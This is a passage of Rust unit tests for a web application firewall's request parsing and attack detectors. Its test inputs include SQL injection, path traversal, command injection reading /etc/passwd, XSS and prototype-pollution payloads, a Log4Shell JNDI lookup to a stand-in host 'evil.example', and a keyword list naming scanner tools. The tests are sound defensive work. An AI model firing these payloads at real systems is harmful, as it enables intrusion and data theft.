            ",",
            "_",
            "-",
            ":",
            "1",
            "15E148",
            "sqlmap",
            "nikto",
            "'",
            "<script>",
            "${jndi:",
            "() {",
            "../",
            "etc",
            "passwd",
            "--",
            "select",
            "union",
            "=",
            "%27",
            "&",
            "\\",
            "\0",
            "curl",
            "..",
            "eval",
            "php",
        ];
        let mut seed = 0x7b1d_3c55_a0e2_9f41u64;
        let mut uas = Vec::new();
        for _ in 0..6_000 {
            seed = crate::detect::xorshift(seed);
            let n = 1 + (seed % 16) as usize;
            let ua: String = (0..n)
                .map(|_| {
                    seed = crate::detect::xorshift(seed);
                    pieces[(seed >> 9) as usize % pieces.len()]
                })
                .collect();
            uas.push(ua);
        }
        uas.push(
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"
                .to_string(),
        );
        let mut left_out = 0;
        for paranoia in 1..=4 {
            let engine = Config {
                paranoia_level: paranoia,
                ..Config::default()
            }
            .compile()
            .unwrap();
            for ua in &uas {
                let headers = hdrs(&[("host", "shop.example.com"), ("user-agent", ua)]);
                let req = Request::new("GET", "/a").with_headers(&headers);
                let p = engine.prepare(&req);
                if p.inputs.iter().any(|i| i.location.name == "user-agent") {
                    continue;
                }
                left_out += 1;
                let mut with = p.clone();
                with.inputs.push(Input::new(
                    Place::new(Source::Header, Text::from("user-agent")),
                    Text::from(ua.as_str()),
                    Text::from(ua.as_str()),
                    CategorySet::EMPTY,
                ));
                with.body_start = with.inputs.len();
                for &k in DetectorKind::ALL {
                    assert_eq!(
                        engine.run_detector_ungated(k, &with),
                        engine.run_detector_ungated(k, &p),
                        "{ua:?} {k:?} PL{paranoia}"
                    );
                }
            }
        }
        assert!(left_out > 400, "{left_out}");
    }

    /// The paths [`plain_path`] gives the `PlainPath` shape fire only lfi and request-level
    /// rules: every other detector, ungated, at paranoia 1, finds nothing on a request of
    /// such a path alone. The paths: one to three segments of the detectors' words (command
    /// names and paths, SQL, class names...), with digits and dashes, and 20,000 random ones.
    #[test]
    fn plain_paths_fire_only_lfi() {
        let list = detector_words();
        let mut paths = Vec::new();
        for (i, w) in list.iter().enumerate() {
            let next = list.get(i + 1).map_or("x", String::as_str);
            let third = list.get(i + 2).map_or("y", String::as_str);
            paths.extend([
                format!("/{w}"),
                format!("/{w}/"),
                format!("/{w}/{next}"),
                format!("/{w}/{next}/{third}"),
                format!("/api/{w}/1"),
                format!("/{w}-{next}"),
                format!("/1/{w}"),
            ]);
        }
        let alphabet = b"abcdefghijklmnopqrstuvwxyz0123456789-/";
        let mut seed = 0x2d35_8a1f_c6e9_0b47u64;
        for _ in 0..20_000 {
            seed = crate::detect::xorshift(seed);
            let len = 1 + (seed % 40) as usize;
            let mut t = String::from("/");
            for _ in 0..len {
                seed = crate::detect::xorshift(seed);
                t.push(char::from(alphabet[(seed >> 7) as usize % alphabet.len()]));
            }
            paths.push(t);
        }
        let engine = Config {
            paranoia_level: 1,
            ..Config::default()
        }
        .compile()
        .unwrap();
        let headers = hdrs(&[("host", "shop.example.com")]);
        let mut plain = 0;
        for path in &paths {
            let req = Request::new("GET", path).with_headers(&headers);
            let p = engine.prepare(&req);
            let Some(input) = p.inputs.first() else {
                continue;
            };
            if input.shape != crate::detect::gate::Shape::PlainPath {
                continue;
            }
            plain += 1;
            for &k in DetectorKind::ALL {
                if matches!(
                    k,
                    DetectorKind::Lfi
                        | DetectorKind::Protocol
                        | DetectorKind::Scanner
                        | DetectorKind::Session
                ) {
                    continue;
                }
                assert_eq!(engine.run_detector_ungated(k, &p), vec![], "{path:?} {k:?}");
            }
        }
        assert!(plain > 15_000, "{plain}");
        for path in ["/healthz", "/api/items/3", "/api/users/3/profile", "/"] {
            assert!(plain_path(path), "{path}");
        }
        for path in [
            "/static/js/app.js",
            "/a_b",
            "//x",
            "/a%2fb",
            "x/y",
            "/A",
            "/a..b",
            "",
            "/0xselect",
            "/x/aced0005",
        ] {
            assert!(!plain_path(path), "{path}");
        }
    }

    struct NoExcl;
    impl ExclusionLookup for NoExcl {
        fn for_arg(&self, _: &str) -> CategorySet {
            CategorySet::EMPTY
        }
        fn for_header(&self, _: &str) -> CategorySet {
            CategorySet::EMPTY
        }
    }

    /// The default configuration at paranoia 2, where the extractor pushes every value (at
    /// paranoia 1 it leaves inert ones out: `inert_token`, `inert_leaf`, `inert_name`): for
    /// the tests of what extraction makes of each value.
    fn every_value() -> Config {
        Config {
            paranoia_level: 2,
            ..Config::default()
        }
    }

    fn hdrs(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
        pairs
            .iter()
            .map(|(a, b)| (a.to_string(), b.to_string()))
            .collect()
    }

    /// A value of the request pushed through [`Builder::push`] (the plain values in one step,
    /// [`Builder::push_plain`], [`Builder::push_capital`]) and a name through [`Builder::arg`] give the inputs, flags and
    /// nested documents of the general path ([`Builder::text_and_bytes`] then
    /// [`Builder::push_decoded`]), on generated values over the bytes that decide the path
    /// (escapes, `+`, `&`, `\\`, capitals, NUL, non-ASCII, brackets, whole documents), in every
    /// source, with and without `+` decoding, under a plain name and `user-agent`.
    #[test]
    fn plain_values_are_push_decoded() {
        let cfg = every_value();
        let new = || Builder {
            cfg: &cfg,
            excl: &NoExcl,
            no_arg_exclusions: true,
            inputs: Vec::new(),
            flags: Flags::default(),
            limit_hits: Vec::new(),
            arg_count: 0,
            lower_body: None,
            nesting: 0,
            nested_values: 0,
            nested_allowance: 0,
            nested_bytes: 0,
        };
        let pieces = [
            "a",
            "Z",
            "0",
            "%",
            "%41",
            "&",
            "+",
            "\\",
            "\0",
            "{",
            "[",
            "]",
            "}",
            "\u{e9}",
            "-",
            " ",
            "=",
            "\"",
            "Mozilla/5.0",
            r#"{"a":"b"}"#,
            "[1,\"x\"]",
            "\u{7f}",
        ];
        let mut seed = 0x1234_5678_9abc_def1u64;
        let mut values: Vec<String> = pieces.iter().map(|p| p.to_string()).collect();
        for _ in 0..3000 {
            seed = crate::detect::xorshift(seed);
            let n = (seed % 6) as usize;
            let mut v = String::new();
            for _ in 0..n {
                seed = crate::detect::xorshift(seed);
                v.push_str(pieces[(seed >> 8) as usize % pieces.len()]);
            }
            values.push(v);
        }
        let sources = [
            Source::Arg,
            Source::ArgName,
            Source::Cookie,
            Source::CookieName,
            Source::Header,
            Source::Body,
        ];
        // Values as slices of one body whose lowercase copy they share (as a body's values
        // do), and as text of their own.
        let body = values.concat();
        let mut at = 0;
        let mut slices: Vec<&str> = Vec::new();
        for v in &values {
            slices.push(&body[at..at + v.len()]);
            at += v.len();
        }
        slices.extend(values.iter().map(String::as_str));
        let (fast_cell, slow_cell) = (OnceCell::new(), OnceCell::new());
        let new = |cell| Builder {
            lower_body: Some((body.as_bytes(), cell)),
            ..new()
        };
        let mut plain = 0;
        for v in slices {
            for &source in &sources {
                for plus in [false, true] {
                    for name in ["q", "user-agent"] {
                        let (mut fast, mut slow) = (new(&fast_cell), new(&slow_cell));
                        let raw = Raw::RequestStr(v);
                        fast.push(source, Text::from(name), raw, plus, CategorySet::EMPTY);
                        let (text, bytes) = slow.text_and_bytes(raw, plus);
                        plain += usize::from(plain_set(v, plus).is_ok());
                        let e = CategorySet::EMPTY;
                        slow.push_decoded(source, Text::from(name), raw, text, bytes, e);
                        assert_eq!(fast.inputs, slow.inputs, "{v:?} {source:?} {plus}");
                        assert_eq!(fast.flags, slow.flags, "{v:?}");
                        assert_eq!(fast.limit_hits, slow.limit_hits, "{v:?}");
                    }
                }
            }
            for plus in [false, true] {
                let (mut fast, mut slow) = (new(&fast_cell), new(&slow_cell));
                fast.arg(Raw::RequestStr(v), Raw::RequestStr("x"), plus);
                let raw = Raw::RequestStr(v);
                let (name, bytes) = slow.text_and_bytes(raw, plus);
                let e = CategorySet::EMPTY;
                slow.push_decoded(Source::ArgName, name.clone(), raw, name.clone(), bytes, e);
                let (text, bytes) = slow.text_and_bytes(Raw::RequestStr("x"), plus);
                slow.push_decoded(Source::Arg, name, Raw::RequestStr("x"), text, bytes, e);
                assert_eq!(fast.inputs, slow.inputs, "{v:?} {plus}");
                assert_eq!(fast.flags, slow.flags, "{v:?}");
            }
        }
        // Both paths were taken.
        assert!(plain > 1000 && plain < values.len() * 40, "{plain}");
        assert!(fast_cell.get().is_some() && slow_cell.get().is_some());
    }

    /// A value read twice adds no finding: every detector reads each value on its own and a
    /// rule counts once per request. The JSON walk relies on it to push a repeated member
    /// name once. Here every input of each request is appended again (names and values,
    /// attacks among them) and every detector, gated and ungated, at paranoia 1 to 4, finds
    /// exactly what it found without the copies. Then the walk itself: a name like one of the
    /// last four is not pushed again, every value is, and the
    /// `"prototype"` under `"constructor"` as its path even after a plain `"prototype"`.
    #[test]
    fn repeated_member_names_add_no_finding() {
        let bodies: &[(&str, &str)] = &[
            (
                "application/json",
                r#"{"items":[{"<script>":"x","sku":"1 OR 1=1--"},{"<script>":"y","sku":"2"}],"jsessionid":"a","jsessionid":"b"}"#,
            ),
            (
                "application/json",
                r#"{"a":{"prototype":1},"constructor":{"prototype":{"isAdmin":true}}}"#,
            ),
            (
                "application/json",
                r#"{"_method":"DELETE","_method":"PUT","x":"; cat /etc/passwd"}"#,
            ),
            (
                "application/json",
                r#"[{"../../etc/passwd":1},{"../../etc/passwd":"${jndi:ldap://x/a}"}]"#,
            ),
            (
                "application/x-www-form-urlencoded",
                "a=1&a=2&;ls=x&;ls=y&q=<svg/onload=alert(1)>",
            ),
        ];
        let dump = |engine: &crate::Engine, p: &Prepared<'_>, ungated: bool| {
            DetectorKind::ALL
                .iter()
                .flat_map(|&k| {
                    if ungated {
                        engine.run_detector_ungated(k, p)
                    } else {
                        engine.run_detector(k, p)
                    }
                })
                .map(|d| format!("{}@{:?}:{}", d.rule, d.location.source, d.location.name))
                .collect::<Vec<_>>()
        };
        let mut fired = 0;
        for paranoia in 1..=4u8 {
            let engine = Config {
                paranoia_level: paranoia,
                ..Config::default()
            }
            .compile()
            .unwrap();
            for (ct, body) in bodies {
                let h = hdrs(&[("content-type", ct)]);
                let req = Request::new("POST", "/p?Z=1")
                    .with_headers(&h)
                    .with_body(body.as_bytes());
                for ungated in [false, true] {
                    let once = engine.prepare(&req);
                    let mut twice = engine.prepare(&req);
                    let copies = twice.inputs.clone();
                    twice.inputs.extend(copies);
                    let found = dump(&engine, &once, ungated);
                    fired += found.len();
                    assert_eq!(found, dump(&engine, &twice, ungated), "{body}");
                }
            }
        }
        assert!(fired > 40, "the requests are attacks: {fired}");
        let cfg = every_value();
        let body = br#"{"n":[{"a":"x","b":"y"},{"a":"z","b":"y"},{"c":{"prototype":1}},{"constructor":{"prototype":2}}],"a":"w"}"#;
        let h = hdrs(&[("content-type", "application/json")]);
        let req = Request::new("POST", "/").with_headers(&h).with_body(body);
        let p = prepare(req, &cfg, &NoExcl, CategorySet::EMPTY);
        let seen: Vec<String> = p
            .inputs
            .get(p.body_start..)
            .unwrap_or_default()
            .iter()
            .map(|i| format!("{:?}:{}={}", i.location.source, i.location.name, i.value))
            .collect();
        assert_eq!(
            seen,
            [
                "ArgName:n=n",
                "ArgName:a=a",
                "Arg:a=x",
                "ArgName:b=b",
                "Arg:b=y",
                "Arg:a=z",
                "Arg:b=y",
                "ArgName:c=c",
                "ArgName:prototype=prototype",
                "Arg:prototype=1",
                "ArgName:constructor=constructor",
                "ArgName:prototype=constructor.prototype",
                "Arg:prototype=2",
                // Out of the last four names by now: pushed again.
                "ArgName:a=a",
                "Arg:a=w",
            ]
        );
    }

    /// An inspected `User-Agent` other than product tokens (those are left out) is the input
    /// `Builder::push` makes of it: for a value with nothing to decode,
    /// [`Input::new`] of the value; otherwise decoded; the NUL flag as for any header.
    #[test]
    fn user_agent_inputs_are_push() {
        let long = "Mozilla/5.0 ".repeat(50);
        let uas = [
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
            "curl/8.4.0",
            "",
            "A\0B",
            "x%41y",
            "x&amp;y",
            "back\\slash",
            "\u{c9}CLAIR/1 (Fr)",
            long.as_str(),
            "sqlmap/1.7 ' or 1=1--",
        ];
        let cfg = Config::default();
        for round in 0..3 {
            for (k, ua) in uas.iter().enumerate() {
                // Repeats (memo hits) and alternations (misses).
                let ua = if round == 1 {
                    uas[(k + 3) % uas.len()]
                } else {
                    *ua
                };
                let h = hdrs(&[("host", "x"), ("user-agent", ua), ("x-ref", ua)]);
                let p = prepare(
                    Request::new("GET", "/").with_headers(&h),
                    &cfg,
                    &NoExcl,
                    CategorySet::EMPTY,
                );
                let got = p.inputs.iter().find(|i| i.location.name == "user-agent");
                // Product tokens are not pushed (`product_user_agents_fire_nothing`).
                if crate::detect::gate::product_user_agent(ua) {
                    assert!(got.is_none(), "{ua:?}");
                    continue;
                }
                let got = got.unwrap();
                if !ua.contains(['%', '&', '\\']) {
                    let want = Input::new(
                        Place::new(Source::Header, Text::from("user-agent")),
                        Text::from(ua),
                        Text::from(ua),
                        CategorySet::EMPTY,
                    );
                    assert_eq!(*got, want, "{ua:?}");
                } else {
                    // As any inspected header's value is pushed (a custom one's, same text).
                    let want = p
                        .inputs
                        .iter()
                        .find(|i| i.location.name == "x-ref")
                        .unwrap();
                    let want = Input {
                        location: got.location.clone(),
                        ..want.clone()
                    };
                    assert_eq!(*got, want, "{ua:?}");
                }
                assert_eq!(p.flags.null_byte, ua.contains('\0'), "{ua:?}");
            }
        }
    }

    #[test]
    fn query_cookies_headers_and_form_body() {
        let h = hdrs(&[
            ("host", "x"),
            ("cookie", "a=1; b=%3Cx"),
            ("user-agent", "curl"),
            ("accept", "*/*"),
        ]);
        let req = Request::new("POST", "/p%61th?q=a+b&r=%2527")
            .with_headers(&h)
            .with_body(b"f=1&g=2");
        let cfg = every_value();
        let p = prepare(req, &cfg, &NoExcl, CategorySet::EMPTY);
        assert_eq!(p.path, "/path");
        let find = |s: Source, n: &str| {
            p.inputs
                .iter()
                .find(|i| i.location.source == s && i.location.name == n)
                .map(|i| i.value.clone())
        };
        assert_eq!(find(Source::Arg, "q").as_deref(), Some("a b"));
        assert_eq!(find(Source::Arg, "r").as_deref(), Some("'"));
        assert_eq!(find(Source::Cookie, "b").as_deref(), Some("<x"));
        assert_eq!(find(Source::Header, "user-agent").as_deref(), Some("curl"));
        assert_eq!(find(Source::Header, "accept"), None);
        assert_eq!(find(Source::Arg, "g").as_deref(), Some("2"));
        assert!(p.flags.multi_encoded);
        assert_eq!(p.arg_count, 4);
    }

    #[test]
    fn arg_limit_cuts_and_reports() {
        let cfg = Config {
            limits: crate::config::Limits {
                args: crate::config::Limit {
                    max: 2,
                    on_exceed: crate::config::OnExceed::Block,
                },
                ..Default::default()
            },
            ..Config::default()
        };
        let p = prepare(
            Request::new("GET", "/?a=1&b=2&c=3"),
            &cfg,
            &NoExcl,
            CategorySet::EMPTY,
        );
        assert_eq!(p.limit_hits, vec![LimitKind::ArgCount]);
        assert!(!p.inputs.iter().any(|i| i.location.name == "c"));
    }

    /// A body without a Content-Type: a piece without `=` is a value (text), not the name of
    /// an empty field; a JSON document is read as JSON. A declared form keeps its names.
    #[test]
    fn undeclared_bodies_are_text_or_documents() {
        let sources = |h: &[(String, String)], body: &'static [u8]| {
            let req = Request::new("POST", "/").with_headers(h).with_body(body);
            let p = prepare(req, &every_value(), &NoExcl, CategorySet::EMPTY);
            let got: Vec<(Source, String)> = p
                .inputs
                .iter()
                .filter(|i| i.location.source != Source::Path && !i.value.is_empty())
                .map(|i| (i.location.source, i.value.to_string()))
                .collect();
            (p.body_kind, got)
        };
        let none = hdrs(&[]);
        let (kind, got) = sources(&none, b"a line%0A&k=v");
        assert_eq!(kind, BodyKind::Form);
        assert_eq!(
            got,
            vec![
                (Source::Arg, "a line\n".to_string()),
                (Source::ArgName, "k".to_string()),
                (Source::Arg, "v".to_string()),
            ]
        );
        let form = hdrs(&[("content-type", "application/x-www-form-urlencoded")]);
        let (_, got) = sources(&form, b"a line%0A&k=v");
        assert_eq!(got[0], (Source::ArgName, "a line\n".to_string()));
        let (kind, got) = sources(&none, br#" {"q":"1' or '1'='1"} "#);
        assert_eq!(kind, BodyKind::Json);
        assert!(
            got.contains(&(Source::Arg, "1' or '1'='1".to_string())),
            "{got:?}"
        );
        // Not a document (no closing brace, or not JSON): a form reading, as before, and no
        // malformed body (nobody claimed JSON).
        for body in [&br#"{"q":"1""#[..], b"{foo}", b"[1,2,]"] {
            let req = Request::new("POST", "/")
                .with_headers(&none)
                .with_body(body);
            let p = prepare(req, &every_value(), &NoExcl, CategorySet::EMPTY);
            assert_eq!(p.body_kind, BodyKind::Form, "{body:?}");
            assert!(!p.flags.body_malformed, "{body:?}");
        }
    }

    #[test]
    fn json_body_keys_and_values() {
        let h = hdrs(&[("content-type", "application/json")]);
        let req = Request::new("POST", "/")
            .with_headers(&h)
            .with_body(br#"{"a":{"b":"<x>"}}"#);
        let p = prepare(req, &every_value(), &NoExcl, CategorySet::EMPTY);
        assert_eq!(p.body_kind, BodyKind::Json);
        assert!(p
            .inputs
            .iter()
            .any(|i| i.location.source == Source::Arg && i.value == "<x>"));
        assert!(p
            .inputs
            .iter()
            .any(|i| i.location.source == Source::ArgName && i.value == "b"));
    }

    /// The leaves of documents carried as values are inspected up to the length of the
    /// outermost value carrying them: a JSON body member holding a document holding a
    /// document gives its innermost leaf when the two levels' leaves together fit (exactly
    /// at the allowance), and past it (one byte more) stops and reports `DecodeRounds`.
    #[test]
    fn nested_leaves_are_inspected_up_to_the_carrier_length() {
        let quoted = |s: &str| serde_json::to_string(s).unwrap_or_default();
        let payload = "${jndi:ldap://evil.example/a}";
        let inner = format!("{{\"b\":{}}}", quoted(payload));
        // The outermost carrier: its key is padding that counts towards the allowance and
        // is no leaf.
        let carrier = |key: usize| format!("{{\"{}\":{}}}", "k".repeat(key), quoted(&inner));
        let spent = inner.len() + payload.len();
        let key = spent - carrier(0).len();
        let h = hdrs(&[("content-type", "application/json")]);
        let cfg = Config::default();
        for (key, fits) in [(key, true), (key - 1, false)] {
            let doc = carrier(key);
            assert_eq!(doc.len() >= spent, fits);
            let body = format!("{{\"m\":{}}}", quoted(&doc));
            let req = Request::new("POST", "/")
                .with_headers(&h)
                .with_body(body.as_bytes());
            let p = prepare(req, &cfg, &NoExcl, CategorySet::EMPTY);
            let leaf = p.inputs.iter().any(|i| i.value == payload);
            assert_eq!(leaf, fits, "key {key}");
            let limits: &[LimitKind] = if fits {
                &[]
            } else {
                &[LimitKind::DecodeRounds]
            };
            assert_eq!(p.limit_hits, limits, "key {key}");
        }
    }

    /// The windows of a document carried as a value that lie inside one of its long string
    /// leaves are not read (the leaf is read, verbatim, as a value of its own), in both phases
    /// (the whole request, the body alone): every piece of the carrier up to
    /// `WINDOW_OVERLAP` bytes long still lies whole in a window read under the carrier's name
    /// (its own or the leaf's). A leaf with an escape is not the carrier's bytes: every window
    /// of the carrier is read.
    #[test]
    fn carrier_windows_inside_a_long_leaf_are_read_once() {
        let quoted = |s: &str| serde_json::to_string(s).unwrap_or_default();
        let text: String = (0..3 * WINDOW)
            .map(|i| char::from(b'a' + (i * 7 % 26) as u8))
            .collect();
        let escaped = format!("{}\"{}", &text[..WINDOW], &text[WINDOW..]);
        let h = hdrs(&[("content-type", "application/json")]);
        let cfg = Config::default();
        for (leaf, skips) in [(&text, true), (&escaped, false)] {
            let doc = format!("{{\"a\":{},\"b\":\"x\"}}", quoted(leaf));
            let body = format!("{{\"m\":{}}}", quoted(&doc));
            let req = Request::new("POST", "/?q=1")
                .with_headers(&h)
                .with_body(body.as_bytes());
            let p = prepare(req, &cfg, &NoExcl, CategorySet::EMPTY);
            for p in [&p, &p.body_only()] {
                let w = p.windowed().expect("values longer than a window");
                let read: Vec<&str> = w
                    .inputs
                    .iter()
                    .filter(|i| i.location.source == Source::Arg && i.location.name == "m")
                    .map(|i| i.value.as_str())
                    .collect();
                let all = windows(&doc, WINDOW, WINDOW_OVERLAP).len()
                    + windows(leaf, WINDOW, WINDOW_OVERLAP).len()
                    + 1;
                if skips {
                    // The carrier's first and last windows hold the document around the leaf.
                    assert_eq!(
                        read.len(),
                        all - (windows(&doc, WINDOW, WINDOW_OVERLAP).len() - 2)
                    );
                } else {
                    assert_eq!(read.len(), all);
                }
                for start in (0..doc.len()).step_by(61) {
                    let piece = &doc[start..(start + WINDOW_OVERLAP).min(doc.len())];
                    assert!(read.iter().any(|r| r.contains(piece)), "{start}");
                }
            }
        }
    }

    /// A JSON document carried as a value gives its string leaves as values of their own
    /// (under the carrier's name; numbers and keys not), in every carrier; malformed ones
    /// give nothing; each bound is reported: leaves per request (`body_values`), documents
    /// inside documents (`decode_rounds`), depth (`json_depth`).
    #[test]
    fn nested_documents_give_their_leaves_within_reported_bounds() {
        let leaves = |p: &Prepared<'_>, name: &str| -> Vec<String> {
            p.inputs
                .iter()
                .filter(|i| i.location.source == Source::Arg && i.location.name == name)
                .skip(1)
                .map(|i| i.value.to_string())
                .collect()
        };
        let cfg = Config::default();
        let q = "/?d=%7B%22a%22%3A%22x%20y%22%2C%22n%22%3A12%2C%22l%22%3A%5B%22z%22%5D%7D";
        let p = prepare(Request::new("GET", q), &cfg, &NoExcl, CategorySet::EMPTY);
        assert_eq!(leaves(&p, "d"), ["x y", "z"]);
        assert!(p.limit_hits.is_empty());
        // A JSON body's string member holding a document, two levels down.
        let h = hdrs(&[("content-type", "application/json")]);
        let body = br#"{"m":"{\"a\":\"{\\\"b\\\":\\\"deep\\\"}\"}"}"#;
        let req = Request::new("POST", "/").with_headers(&h).with_body(body);
        let p = prepare(req, &cfg, &NoExcl, CategorySet::EMPTY);
        assert_eq!(leaves(&p, "m"), [r#"{"b":"deep"}"#, "deep"]);
        // Malformed or not a document: nothing more.
        for q in [
            "/?d=%7B%22a%22%3A%22x%22",
            "/?d=%7Bnot%20json%7D",
            "/?d=x%7D",
        ] {
            let p = prepare(Request::new("GET", q), &cfg, &NoExcl, CategorySet::EMPTY);
            assert!(leaves(&p, "d").is_empty(), "{q}");
            assert!(p.limit_hits.is_empty(), "{q}");
        }
        let limit = |max| crate::config::Limit {
            max,
            on_exceed: crate::config::OnExceed::Block,
        };
        // Leaves per request: the first `body_values` taken, the next one reported.
        let cfg = Config {
            limits: crate::config::Limits {
                body_values: limit(2),
                ..Default::default()
            },
            ..Config::default()
        };
        let q = "/?d=[%22a%22,%22b%22]&e=[%22c%22]";
        let p = prepare(Request::new("GET", q), &cfg, &NoExcl, CategorySet::EMPTY);
        assert_eq!(leaves(&p, "d"), ["a", "b"]);
        assert!(leaves(&p, "e").is_empty());
        assert_eq!(p.limit_hits, vec![LimitKind::BodyValues]);
        // Documents inside documents: one level per decoding round.
        let cfg = Config {
            limits: crate::config::Limits {
                decode_rounds: limit(1),
                ..Default::default()
            },
            ..Config::default()
        };
        let q = "/?d=[%22[%5C%22x%5C%22]%22]";
        let p = prepare(Request::new("GET", q), &cfg, &NoExcl, CategorySet::EMPTY);
        assert_eq!(leaves(&p, "d"), [r#"["x"]"#]);
        assert_eq!(p.limit_hits, vec![LimitKind::DecodeRounds]);
        // Depth: values deeper than `json_depth` are not visited, and that is reported.
        let cfg = Config {
            limits: crate::config::Limits {
                json_depth: limit(1),
                ..Default::default()
            },
            ..Config::default()
        };
        let q = "/?d=[%22a%22,[%22b%22]]";
        let p = prepare(Request::new("GET", q), &cfg, &NoExcl, CategorySet::EMPTY);
        assert_eq!(leaves(&p, "d"), ["a"]);
        assert_eq!(p.limit_hits, vec![LimitKind::JsonDepth]);
    }

    /// JSON is checked and walked in one pass: a body found malformed after some values
    /// keeps none of them (nor the limits they raised), and is inspected as text.
    #[test]
    fn malformed_json_keeps_nothing_of_the_walk() {
        let h = hdrs(&[("content-type", "application/json")]);
        let cfg = Config {
            limits: crate::config::Limits {
                body_values: crate::config::Limit {
                    max: 1,
                    on_exceed: crate::config::OnExceed::Block,
                },
                ..Default::default()
            },
            ..every_value()
        };
        for body in [&br#"{"a":"x","b":[1,2,}"#[..], br#"{"a":1,"b":2,"c":3 x}"#] {
            let req = Request::new("POST", "/").with_headers(&h).with_body(body);
            let p = prepare(req, &cfg, &NoExcl, CategorySet::EMPTY);
            assert_eq!(p.body_kind, BodyKind::Json);
            assert!(p.flags.body_malformed);
            assert!(p.limit_hits.is_empty(), "{:?}", p.limit_hits);
            let sources: Vec<Source> = p.inputs[p.body_start..]
                .iter()
                .map(|i| i.location.source)
                .collect();
            assert_eq!(sources, vec![Source::Body]);
        }
        // Well-formed: the limit is reported, the values before it are kept.
        let req = Request::new("POST", "/")
            .with_headers(&h)
            .with_body(br#"{"a":1,"b":2}"#);
        let p = prepare(req, &cfg, &NoExcl, CategorySet::EMPTY);
        assert!(!p.flags.body_malformed);
        assert_eq!(p.limit_hits, vec![LimitKind::BodyValues]);
        assert_eq!(p.inputs.len() - p.body_start, 2);
    }

    /// A JSON body that is not UTF-8 is inspected as one text value, malformed (or, cut by
    /// the body limit, not), without being walked: `check` gives its error.
    #[test]
    fn json_body_that_is_not_utf8_is_text() {
        let h = hdrs(&[("content-type", "application/json")]);
        let cfg = Config::default();
        for (body, malformed) in [
            (&b"{\"a\":\"x\xffy\",\"b\":1}"[..], true),
            (b"{\"a\":1,\"\xc3\":2}", true),
            (b"[1,2]\x80", true),
            (b"{\"a\":\"\xff", false),
        ] {
            let mut req = Request::new("POST", "/").with_headers(&h).with_body(body);
            req.body_truncated = !malformed;
            let p = prepare(req, &cfg, &NoExcl, CategorySet::EMPTY);
            assert_eq!(p.body_kind, BodyKind::Json);
            assert_eq!(p.flags.body_malformed, malformed, "{body:?}");
            let sources: Vec<Source> = p.inputs[p.body_start..]
                .iter()
                .map(|i| i.location.source)
                .collect();
            assert_eq!(sources, vec![Source::Body], "{body:?}");
        }
    }

    /// Each detector's list holds exactly the values its gate admits, in order, at every
    /// level: repeated argument names (answered as their first copy) included, and names
    /// that look alike but differ, or that needed decoding.
    #[test]
    fn gate_lists_are_the_gates_answers() {
        let h = hdrs(&[
            ("content-type", "application/json"),
            ("user-agent", "Mozilla/5.0 (X11; Linux x86_64)"),
            ("x-filename", "a.php"),
        ]);
        let mut body = String::from(r#"{"items":["#);
        for n in 0..12 {
            body.push_str(&format!(
                r#"{{"sku":"SKU-{n:02}","ls":"ls -la","name":"Item {n}","quty":{n},"filter{n}":"a_b","sl":"1 union select 2"}},"#
            ));
        }
        body.push_str(r#"{"cat":"ifconfig","cut":"x","ls":"y"}],"note":"leave at the door"}"#);
        let big = Request::new("POST", "/a?ls=1&ls=2&id=../x")
            .with_headers(&h)
            .with_body(body.as_bytes());
        // Up to `SMALL` values the lists are bit words; past it, index lists.
        let small_headers = hdrs(&[
            ("user-agent", "Mozilla/5.0 (X11; Linux x86_64)"),
            ("x-user-id", "user_07"),
            ("cookie", "session=u-7f3a; theme=dark; ls=1; a.b=c"),
            ("x-filename", "a.php"),
        ]);
        let small = Request::new("GET", "/a/b.c?ls=1&cat=x&id=../x&q=1+union+select+2")
            .with_headers(&small_headers);
        let sizes = [big, small].map(|r| {
            prepare(r, &Config::default(), &NoExcl, CategorySet::EMPTY)
                .inputs
                .len()
        });
        assert!(
            sizes[0] > SMALL && (2..=SMALL).contains(&sizes[1]),
            "{sizes:?}"
        );
        for (req, paranoia) in [big, small]
            .into_iter()
            .flat_map(|r| (1..=4).map(move |pl| (r, pl)))
        {
            let p = prepare(req, &Config::default(), &NoExcl, CategorySet::EMPTY);
            p.gates(paranoia);
            for &kind in DetectorKind::ALL {
                p.gate.set(Some((kind, paranoia)));
                let listed: Vec<*const Input<'_>> = p
                    .inputs_from(crate::detect::INJECTION_SOURCES)
                    .map(|i| i as *const _)
                    .collect();
                p.gate.set(None);
                let expected: Vec<*const Input<'_>> = p
                    .inputs
                    .iter()
                    .filter(|i| crate::detect::INJECTION_SOURCES.contains(&i.location.source))
                    .filter(|i| kind.admits(i, paranoia))
                    .map(|i| i as *const _)
                    .collect();
                assert_eq!(listed, expected, "{kind:?} PL{paranoia}");
                // Gated at another level than the lists: each value's gate is asked.
                let other = paranoia % 4 + 1;
                p.gate.set(Some((kind, other)));
                let asked: Vec<*const Input<'_>> = p
                    .inputs_from(&[Source::Arg, Source::Header])
                    .map(|i| i as *const _)
                    .collect();
                p.gate.set(None);
                let expected: Vec<*const Input<'_>> = p
                    .inputs
                    .iter()
                    .filter(|i| matches!(i.location.source, Source::Arg | Source::Header))
                    .filter(|i| kind.admits(i, other))
                    .map(|i| i as *const _)
                    .collect();
                assert_eq!(
                    asked, expected,
                    "{kind:?} PL{other} with lists at PL{paranoia}"
                );
            }
            // Ungated: every value of the wanted sources, in order.
            let all: Vec<*const Input<'_>> = p
                .inputs_from(&[Source::ArgName, Source::Path])
                .map(|i| i as *const _)
                .collect();
            let expected: Vec<*const Input<'_>> = p
                .inputs
                .iter()
                .filter(|i| matches!(i.location.source, Source::ArgName | Source::Path))
                .map(|i| i as *const _)
                .collect();
            assert_eq!(all, expected);
        }
    }

    /// The body's values lowercased as slices of one lowercase copy of the body are the
    /// inputs each value's own copy gives: same texts, byte sets, shapes, in the same order,
    /// for JSON and form bodies with and without capitals, escapes, `+`, non-ASCII,
    /// malformed JSON (one whole-body value) and a body that is not UTF-8.
    #[test]
    fn shared_lowercase_body_gives_the_same_inputs() {
        let bodies: &[(&str, &[u8])] = &[
            (
                "application/json",
                br#"{"Customer":"User-01","items":[{"sku":"SKU-1","name":"Item One"},{"n":10.5}],"note":"aAb"}"#,
            ),
            ("application/json", br#"{"a":"x","b":["Y","z"]}"#),
            ("application/json", br#"{"a":"no capitals at all"}"#),
            ("application/json", br#"{"A":"\u00e9T\u00c9","B":"\u00c9t\u00e9 \u00c9T\u00c9"}"#),
